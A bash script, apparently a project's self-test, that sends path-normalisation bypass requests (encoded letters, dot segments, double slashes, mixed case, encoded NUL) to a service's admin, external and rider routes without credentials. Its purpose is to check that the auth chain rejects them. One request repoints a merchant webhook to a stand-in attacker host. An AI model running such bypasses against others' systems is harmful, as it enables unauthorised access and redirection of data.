#!/usr/bin/env bash
# Tries the known walk-arounds of the security chain against a running service, without any
# credential, and prints one line per request: what was bent, the request, the status and the
# error code. Usage: deploy/security-probe.sh [base-url] [merchant-id]
# (default http://localhost:8080; the merchant id is used for the webhook repoint attempt).
# Safe to run against your own service: a correct chain answers 400, 401 or 404 to every line;
# on a vulnerable one some lines answer 2xx, and the "Probe Ltd" merchant they create is real.
set -uo pipefail
base=${1:-http://localhost:8080}
merchant=${2:-00000000-0000-0000-0000-000000000000}
quote='pickup_lat=-1.2841&pickup_lng=36.8219&dropoff_lat=-1.3001&dropoff_lng=36.7833'

probe() { # how method path [body]
  local how=$1 method=$2 path=$3 body=${4:-}
  local args=(-s -o /tmp/security-probe.$$ -w '%{http_code}' --path-as-is -X "$method")
  [ -n "$body" ] && args+=(-H 'Content-Type: application/json' --data-binary "$body")
  local status code
  status=$(curl "${args[@]}" "$base$path")
  code=$(grep -o '"code":"[A-Z_]*"' /tmp/security-probe.$$ | head -1 | cut -d'"' -f4)
  printf '%-24s %-6s %-58s %s %s\n' "$how" "$method" "$path" "$status" "${code:--}"
}

for family in admin external rider; do
  case $family in
    admin) method=POST; rest=merchants; body='{"name":"Probe Ltd"}' ;;
    external) method=GET; rest="quotes?$quote"; body= ;;
    rider) method=GET; rest=offers; body= ;;
  esac
  first=${family:0:1}; hex=$(printf '%%%02X' "'$first")
  probe "encoded letter" $method "/api/v1/$hex${family:1}/$rest" "$body"
  probe "encoded slash" $method "/api/v1/$family%2F$rest" "$body"
  probe "encoded dot segment" $method "/api/v1/%2E%2E/api/v1/$family/$rest" "$body"
  probe "dot segment" $method "/api/v1/x/../$family/$rest" "$body"
  probe ";x=1 parameter" $method "/api/v1/$family;x=1/$rest" "$body"
  probe "double slash" $method "/api/v1//$family/$rest" "$body"
  probe "trailing slash" $method "/api/v1/$family/${rest%%\?*}/" "$body"
  probe "mixed case" $method "/api/v1/${family^}/$rest" "$body"
  probe "body on GET" GET "/api/v1/$family/${rest%%\?*}" '{"x":1}'
  probe "canonical, no credential" $method "/api/v1/$family/$rest" "$body"
done
probe "encoded letter" PUT "/api/v1/%61dmin/merchants/$merchant/webhook" '{"url":"https://attacker.example/hook"}'
probe "encoded letter" POST "/api/v1/%65xternal/ping"
probe "encoded letter" GET "/api/v1/%65xternal/dispatches"
probe "encoded letter" GET "/api/v1/%74rack/AAAAAAAAAAAAAAAAAAAAAAAA"
probe "encoded NUL" GET "/api/v1/track/abc%00def"
probe "mixed case" GET "/api/v1/Track/AAAAAAAAAAAAAAAAAAAAAAAA"
probe "path no rule names" GET "/internal/anything"
rm -f /tmp/security-probe.$$
